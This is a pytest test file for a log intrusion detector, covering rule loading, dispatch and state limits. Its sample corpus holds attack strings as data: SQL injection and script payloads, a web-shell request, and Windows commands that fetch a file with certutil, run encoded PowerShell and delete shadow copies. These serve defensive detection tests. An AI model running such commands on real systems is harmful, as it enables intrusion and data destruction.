"""The detector itself: bounded state, ordering, the rule loader's errors, prefiltered dispatch that never hides a rule."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from _rule_events import (
    FAILED,
    by_rule,
    failed_logon,
    fired,
    ssh_lines,
    syslog,
    sysmon1,
    web,
)

from logwarden.app.detect import Detector, Profile, load_rules
from logwarden.app.events import Event
from logwarden.errors import InputError


def test_state_is_bounded_by_the_key_cap(rules):
    detector = Detector(rules, max_keys_per_rule=10)
    events = [ssh_lines(f"Failed password for root from 10.0.{i // 250}.{i % 250} port 22 ssh2", 1, start=i)[0]
              for i in range(1, 300)]
    detector.scan(events)
    assert max(len(states) for states in detector._states.values()) <= 10


def test_signals_are_ordered_by_source_and_first_line(detector):
    events = [web("GET /c99.php HTTP/1.1", status=404, line_no=5),
              web("GET /?q=%3Cscript%3E HTTP/1.1", line_no=2, ip="198.51.100.4")]
    assert [s.line_numbers[0] for s in detector.scan(events)] == [2, 5]


def test_events_without_timestamps_use_the_last_known_time(rules):
    events = ssh_lines(FAILED, 6)
    for event in events[1:]:
        event.ts = None
    assert by_rule(Detector(rules).scan(events), "lw-ssh-bruteforce")[0].line_numbers == [1, 2, 3, 4, 5, 6]


def test_shipped_rules_are_valid_unique_and_cheap_to_evaluate(rules):
    assert len(rules) >= 50
    assert len({r.id for r in rules}) == len(rules)
    assert {e["state"] for e in rules.report} == {"loaded"}
    always = []
    for rule in rules.detections:
        assert any(rule.logsource), f"{rule.id}: pin a logsource so the rule is not evaluated on every line"
        if not rule.clauses:
            always.append(rule.id)
    # a rule without a literal or value gate runs on every event of its logsource: keep those few
    assert len(always) <= 5, always


def _write(tmp_path: Path, text: str, name: str = "rules.yml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


RULE = """
title: My rule
name: my-rule
level: {level}
logsource: {{product: linux, service: syslog}}
logwarden: {{category: {category}}}
detection:
  selection:
    {condition}
  condition: selection
"""


GOOD = """
---
title: Good rule
name: good-rule
level: high
logsource: {product: linux, service: syslog}
detection:
  selection:
    message|contains: good
  condition: selection
"""


@pytest.mark.parametrize("level, category, condition, message", [
    ("loud", "brute_force", "message|contains: x", "level"),
    ("high", "hacking", "message|contains: x", "category 'hacking' is not one of"),
    ("high", "brute_force", "message|re: '(unclosed'", "unclosed"),
    ("high", "brute_force", "message|fuzzy: x", "Unknown modifier"),
])
def test_bad_rules_are_reported_with_file_and_rule_id_and_the_rest_load(tmp_path, level, category, condition, message):
    path = _write(tmp_path, RULE.format(level=level, category=category, condition=condition) + GOOD)
    loaded = load_rules([path])
    [bad] = [e for e in loaded.report if e["state"] == "error"]
    assert message in bad["reason"] and str(path) in bad["source"] and bad["id"] in ("my-rule", "rules.yml")
    assert [r.id for r in loaded] == ["good-rule"]  # the run goes on with the other rules
    line = "Mar 10 07:17:01 web1 app[1]: all good"
    assert fired(Detector(loaded).scan([syslog(line)])) == {"good-rule"}


def test_bad_yaml_and_duplicate_ids_are_reported(tmp_path):
    _write(tmp_path, "title: [unclosed", "broken.yml")
    _write(tmp_path, GOOD, "good.yml")
    loaded = load_rules([tmp_path])
    broken = [e for e in loaded.report if e["state"] == "error"]
    assert len(broken) == 1 and "broken.yml" in broken[0]["source"] and "YAML" in broken[0]["reason"]
    assert [r.id for r in loaded] == ["good-rule"]
    twice = load_rules([_write(tmp_path / "..", GOOD + GOOD, "twice.yml")])
    assert [e["reason"] for e in twice.report if e["state"] == "error"] == [
        "duplicates rule good-rule of pack twice"]


def test_custom_rule_file_with_informational_level_and_case_sensitivity(tmp_path):
    path = _write(tmp_path, """
title: Cron job ran
name: local-cron-ran
level: informational
tags: [attack.execution, attack.t1053.003]
logsource: {product: linux, service: cron}
logwarden: {category: benign, key: host}
detection:
  selection:
    program|cased: CRON
    message|contains|cased: CMD
  condition: selection
""")
    assert [e["state"] for e in load_rules([path]).report] == ["filtered"]  # below the default minimum (low)
    [rule] = load_rules([path], profile=Profile(min_level="informational"))
    detector = Detector([rule])
    signal = detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (run-parts /etc/cron.hourly)")])[0]
    assert (signal.level, signal.category, signal.techniques, signal.key) == ("info", "benign", ["T1053.003"], "web1")
    assert detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) cmd (x)")]) == []


def test_overlapping_substrings_each_reach_their_rules(tmp_path):
    path = _write(tmp_path, "\n".join(f"""
---
title: needle {n}
name: needle-{i}
level: low
logsource: {{product: linux, service: syslog}}
detection:
  selection:
    message|contains: "{n}"
  condition: selection
""" for i, n in enumerate(("abc", "abcd", "bcd", "cd e", "d", "zz"))))
    signals = Detector(load_rules([path])).scan([syslog("Mar 10 07:17:01 h1 app[1]: xxabcd efg")])
    assert fired(signals) == {f"needle-{i}" for i in range(5)}


class _NoPrefilter:
    """Every rule of the logsource is tried on every event: the reference the dispatch must equal."""

    def __init__(self, rules, route):
        self.aliases = route.alias_map() or None
        self.rules = [r for r in rules if route.matches(*r.logsource)]

    def matches(self, view):
        return [r for r in self.rules if r.match(view)]


def _corpus() -> list[Event]:
    events = ssh_lines(FAILED, 7) + ssh_lines("Accepted password for root from 173.234.31.186 port 1 ssh2", 1, start=8)
    events += [web(r, status=404, line_no=i) for i, r in enumerate([
        "GET /?id=1%27%20or%201=1-- HTTP/1.1", "GET /c99.php HTTP/1.1", "GET /?q=<script>x</script> HTTP/1.1",
        "GET /.env HTTP/1.1", "GET /index.html HTTP/1.1", "GET /a;id HTTP/1.1"], 20)]
    events += [sysmon1(c, "C:\\x.exe", i) for i, c in enumerate([
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "certutil -urlcache -f http://x/a a",
        "cmd.exe /c dir", "vssadmin delete shadows /all"], 40)]
    events += [failed_logon(i) for i in range(50, 62)]
    events += [syslog(line, 70 + i) for i, line in enumerate([
        "Mar 10 07:05:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/visudo",
        "Mar 10 08:00:00 db1 kernel: [1.2] Kernel panic - not syncing: Fatal exception",
        "Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"])]
    return events


def test_prefiltered_dispatch_gives_the_same_signals_as_trying_every_rule(rules):
    fast = Detector(rules)
    slow = Detector(rules)
    slow._dispatch, slow._build = {}, lambda route: _NoPrefilter([r for rules in slow._detections.values() for r in rules], route)
    signals = fast.scan(_corpus())
    assert signals == slow.scan(_corpus())
    assert len(fired(signals)) >= 12  # the corpus exercises many rules, so the equality means something
    for _ in range(3):  # again: now the values, hit patterns and answers are remembered
        assert fast.scan(_corpus()) == slow.scan(_corpus())


def test_missing_rule_file_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="does not exist"):
        load_rules([tmp_path / "nope.yml"])


def test_repeated_lines_match_every_time_and_unique_lines_still_match(detector):
    """The screen remembers the values it saw; a remembered value must hit as it did the first time,
    and a route whose values never repeat (the memo switches itself off) must still match."""
    attack = web("GET /item.php?id=1%27%20OR%201=1-- HTTP/1.1")
    benign = web("GET /item.php?id=1 HTTP/1.1")
    events = [attack if i % 2 else benign for i in range(1, 41)]
    events = [dataclasses.replace(e, line_no=i) for i, e in enumerate(events, 1)]
    [signal] = by_rule(detector.scan(events), "lw-web-sqli")
    assert signal.line_numbers == list(range(1, 41, 2))
    unique = [web(f"GET /p{i}?q={i} HTTP/1.1", line_no=i) for i in range(1, 5001)]
    unique.append(web("GET /last?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1", line_no=5001))
    assert [s.line_numbers for s in by_rule(detector.scan(unique), "lw-web-sqli")] == [[5001]]
